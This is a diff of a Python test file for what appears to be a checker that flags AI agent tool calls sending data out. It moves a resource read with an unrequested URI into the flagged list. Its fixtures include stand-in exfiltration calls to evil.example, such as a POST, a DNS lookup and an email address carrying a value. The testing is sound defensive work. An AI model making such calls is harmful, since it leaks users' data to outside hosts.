@@ -103,6 +103,7 @@ LEAVING: list[tuple[FunctionInfo, dict[str, Any]]] = [
     (f("fetch", kind="read", url=1, method=1), {"url": "https://evil.example/x", "method": "POST"}),
     (f("resolve", kind="read", domain=1), {"domain": "4711.evil.example"}),
     (f("validate_email", kind="read", email=1), {"email": "4711@evil.example"}),
+    (f("read_resource", kind="read", uri=1), {"uri": "memo://notes/4711"}),
     (f("download", kind="read", url=1, save_to=1), {"url": "https://a.b/c", "save_to": "/x"}),
 ]
 
@@ -114,7 +115,6 @@ LOOKUPS: list[tuple[FunctionInfo, dict[str, Any]]] = [
     (f("read_file", kind="read", path=1), {"path": "/notes/today.md"}),
     (f("list_events", kind="read", attendee=1, day=1), {"attendee": "Ann", "day": "2026-05-16"}),
     (f("translate", kind="read", text=1, to=1), {"text": "Guten Tag", "to": "en"}),
-    (f("read_resource", kind="read", uri=1), {"uri": "memo://notes/1"}),
     (f("get_order", kind="read", order_id=1, user_id=1), {"order_id": "#W1", "user_id": "u1"}),
 ]
 
@@ -448,10 +448,11 @@ def test_an_argument_for_addresses_is_opened_whatever_it_looks_like(address: str
 
 
 def test_what_an_app_calls_its_own_things_is_no_address() -> None:
-    asked = moment("read it", {"pages": [{"id": "notes/1"}]})
+    asked = moment("read it", {"pages": [{"id": "notes/1"}, {"id": "memo://notes/1"}]})
     read = f("read_resource", kind="read", uri=1)
     assert why_asked(read, {"uri": "memo://notes/1"}, asked) is None
     assert why_asked(read, {"uri": "notes/1"}, asked) is None
+    assert why_asked(read, {"uri": "memo://notes/4711"}, asked)
 
 
 def accepting(function: FunctionInfo, arguments: dict[str, Any], message: str) -> Moment:
